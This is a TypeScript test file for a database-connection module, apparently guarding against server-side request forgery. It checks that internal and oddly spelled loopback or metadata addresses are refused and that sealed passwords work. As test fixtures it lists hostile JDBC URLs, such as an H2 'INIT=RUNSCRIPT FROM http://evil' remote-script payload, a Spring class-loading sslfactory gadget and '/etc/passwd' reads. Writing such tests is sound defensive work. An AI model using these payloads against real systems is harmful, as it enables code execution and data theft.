import { describe, expect, it } from 'vitest';
import { hostFault, INTERNAL, pinnedAddress, readAllowedHosts, type AllowedHosts } from './data-source-hosts.ts';
import { passwordSeal } from './data-source-seal.ts';
import { readDatabaseUrl, writeDatabaseUrl } from './data-source-url.ts';

const none = readAllowedHosts('') as AllowedHosts;
const url = (host: string): string => `jdbc:postgresql://${host}:5432/erp`;
/** Why an address is refused by its text alone; null when it may be connected to. */
const refusal = (text: string, allowed = none): string | null => {
  const address = readDatabaseUrl(text);
  return ('fault' in address ? address.fault : hostFault(address, allowed))?.zh ?? null;
};

const ownSpellings = [
  '127.0.0.1',
  '127.0.0.2',
  '127.255.255.254',
  '127.1',
  '127.0.1',
  '0127.0.0.1',
  '0177.0.0.1',
  '0177.0.0.01',
  '0x7f.0.0.1',
  '0x7f.1',
  '0x7f000001',
  '0X7F000001',
  '2130706433',
  '017700000001',
  '127.0.0.1.',
  '127.0.0.0x1',
  '127.000.000.001',
  '１２７.0.0.1',
  '127。0。0。1',
  '①②⑦.0.0.1',
  '%31%32%37.0.0.1',
  '0',
  '0.0.0.0',
  '0x0',
  'localhost',
  'LOCALHOST',
  'LocalHost',
  'localhost.',
  'a.localhost',
  'localhost.localdomain.local',
  '[::1]',
  '[0:0:0:0:0:0:0:1]',
  '[0000::0001]',
  '[::]',
  '[::ffff:127.0.0.1]',
  '[::FFFF:7F00:1]',
  '[0:0:0:0:0:ffff:127.0.0.1]',
  '[::127.0.0.1]',
  '[::ffff:0:127.0.0.1]',
  '[64:ff9b::127.0.0.1]',
  '[64:ff9b::7f00:1]',
  '[2002:7f00:1::]',
  '[fe80::1]',
  '[fe80::1%eth0]',
  '[::1%25lo]',
  '169.254.169.254',
  '[fd00:ec2::254]',
  '[::ffff:169.254.169.254]',
  '2852039166',
  '0xa9fea9fe',
  '100.100.100.200',
  '10.0.0.1',
  '172.16.0.1',
  '172.31.255.255',
  '192.168.0.1',
  '[fc00::1]',
  '[::ffff:192.168.0.1]',
  '224.0.0.1',
  '255.255.255.255',
  'metadata.google.internal',
  'db.intern.local',
  'nas',
  'printer.lan',
  '',
  '%2Fvar%2Frun%2Fpostgresql',
  '/var/run/postgresql',
  '.',
];

describe('addresses of data sources', () => {
  it.each(ownSpellings)('[SSR-01] are refused where they lead inside: %s', (host) => {
    expect(refusal(url(host))).not.toBeNull();
  });

  it.each([
    'jdbc:postgresql://db.example.com/erp@evil',
    'jdbc:postgresql://user:pass@db.example.com:5432/erp',
    'jdbc:postgresql://db.example.com:5432,127.0.0.1:5432/erp',
    'jdbc:postgresql:erp',
    'jdbc:postgresql:///erp',
    'jdbc:postgresql://db.example.com:0/erp',
    'jdbc:postgresql://db.example.com:05432/erp',
    'jdbc:postgresql://db.example.com:65536/erp',
    'jdbc:postgresql://db.example.com:5432/',
    'jdbc:postgresql://db.example.com:5432/erp?socketFactory=x&socketFactoryArg=y',
    'jdbc:postgresql://db.example.com:5432/erp?sslfactory=org.springframework.context.support.ClassPathXmlApplicationContext',
    'jdbc:postgresql://db.example.com:5432/erp?loggerFile=/tmp/x&loggerLevel=TRACE',
    'jdbc:postgresql://db.example.com:5432/erp?options=-c%20x',
    'jdbc:postgresql://db.example.com:5432/erp?user=postgres',
    'jdbc:postgresql://db.example.com:5432/erp?sslmode=require&sslmode=disable',
    'jdbc:postgresql://db.example.com:5432/erp?sslmode=allow',
    'jdbc:postgresql://db.example.com:5432/erp?currentSchema=pg_catalog',
    'jdbc:postgresql://db.example.com:5432/erp?currentSchema=public,information_schema',
    'jdbc:postgresql://db.example.com:5432/erp#x',
    'jdbc:postgresql://db.example.com:5432/erp\nx',
    'jdbc:mysql://db.example.com:3306/erp?allowLoadLocalInfile=true',
    'jdbc:h2:mem:x;INIT=RUNSCRIPT FROM http://evil',
    'jdbc:sqlite:/etc/passwd',
    'postgres://db.example.com/erp',
    'file:///etc/passwd',
    'gopher://127.0.0.1:5432/_x',
  ])('[SSR-01] [JB#5797] [CVE-2023-41578] are read by a grammar that knows nothing else: %s', (text) => {
    expect(readDatabaseUrl(text)).toHaveProperty('fault');
  });

  it('[B2.3] are read, and written in one spelling', () => {
    expect(readDatabaseUrl('jdbc:postgresql://DB.Example.com/ERP_1')).toEqual({
      host: 'db.example.com',
      port: 5432,
      database: 'ERP_1',
      ssl: 'prefer',
      schemas: ['public'],
    });
    const text = 'jdbc:postgresql://[2A01:4F8:0:0::1]:6000/erp?currentSchema=sales,public&sslmode=verify-full';
    const address = readDatabaseUrl(text);
    expect(address).toMatchObject({ host: '2a01:4f8::1', ssl: 'verify-full', schemas: ['sales', 'public'] });
    if ('fault' in address) throw new Error(address.fault.zh);
    const written = 'jdbc:postgresql://[2a01:4f8::1]:6000/erp?sslmode=verify-full&currentSchema=sales,public';
    expect(writeDatabaseUrl(address)).toBe(written);
    expect(readDatabaseUrl(written)).toEqual(address);
    expect(refusal(url('db.example.com'))).toBeNull();
    expect(refusal(url('8.8.8.8'))).toBeNull();
  });

  it('[SSR-01] are open where the operator says so, by name, port or range', () => {
    const allowed = readAllowedHosts('db.intern, 127.0.0.1:5432 10.1.0.0/16,[fd00::5],nas') as AllowedHosts;
    for (const host of ['127.0.0.1', '10.1.2.3', '[fd00:0::5]', 'nas', 'DB.intern'])
      expect(refusal(url(host), allowed)).toBeNull();
    for (const host of ['127.0.0.2', '10.2.0.1', '[fd00::6]', 'other'])
      expect(refusal(url(host), allowed)).toBe(INTERNAL.zh);
    expect(refusal('jdbc:postgresql://127.0.0.1:5433/erp', allowed)).toBe(INTERNAL.zh);
    for (const wrong of ['http://x', '10.0.0.0/33', 'a/8', '*', '[::1', 'x y;z'])
      expect(readAllowedHosts(wrong)).toBeNull();
  });

  it('[SSR-01] are looked up once and judged as found: rebinding and one private address among others lead nowhere', async () => {
    const place = { host: 'db.example.com', port: 5432 };
    const names = (...addresses: string[]) => {
      let asked = 0;
      const lookup = async () => {
        asked += 1;
        return addresses.map((address) => ({ address, family: address.includes(':') ? 6 : 4 }));
      };
      return { lookup, asked: () => asked };
    };
    const open = names('8.8.8.8');
    expect(await pinnedAddress(place, none, open.lookup)).toBe('8.8.8.8');
    expect(open.asked()).toBe(1);
    for (const found of [['127.0.0.1'], ['8.8.8.8', '10.0.0.1'], ['::ffff:10.0.0.1'], ['fe80::1%eth0'], []])
      expect(await pinnedAddress(place, none, names(...found).lookup)).toBeNull();
    const allowed = readAllowedHosts('10.0.0.0/8') as AllowedHosts;
    expect(await pinnedAddress(place, allowed, names('10.0.0.1').lookup)).toBe('10.0.0.1');
    expect(await pinnedAddress(place, allowed, names('10.0.0.1', '127.0.0.1').lookup)).toBeNull();
    const failing = () => Promise.reject(new Error('ENOTFOUND'));
    expect(await pinnedAddress(place, none, failing)).toBeNull();
  });
});

describe('sealed passwords', () => {
  const place = ['id', 'host', '5432', 'db', 'user'];

  it('[B2.3] open for the place they were sealed for and no other, and not when touched', () => {
    const seal = passwordSeal('first secret');
    const sealed = seal.close('geheim', place);
    expect(sealed).toMatch(/^v1\.[0-9a-f]{8}\./);
    expect(sealed).not.toContain('geheim');
    expect(seal.close('geheim', place)).not.toBe(sealed);
    expect(seal.open(sealed, place)).toBe('geheim');
    expect(seal.open(sealed, ['other', ...place.slice(1)])).toBeNull();
    expect(seal.open(`${sealed}AAAA`, place)).toBeNull();
    expect(seal.open(sealed.replace('v1.', 'v2.'), place)).toBeNull();
    const parts = sealed.split('.');
    const short = [...parts.slice(0, 3), parts[3]?.slice(0, 6), parts[4]].join('.');
    expect(seal.open(short, place)).toBeNull();
  });

  it('[B2.3] of an older key open until they are sealed anew', () => {
    const old = passwordSeal('first secret').close('geheim', place);
    const both = passwordSeal('second secret', 'first secret');
    expect(both.isOld(old)).toBe(true);
    expect(both.open(old, place)).toBe('geheim');
    const fresh = both.close('geheim', place);
    expect(both.isOld(fresh)).toBe(false);
    expect(passwordSeal('second secret').open(fresh, place)).toBe('geheim');
    expect(passwordSeal('second secret').open(old, place)).toBeNull();
  });
});
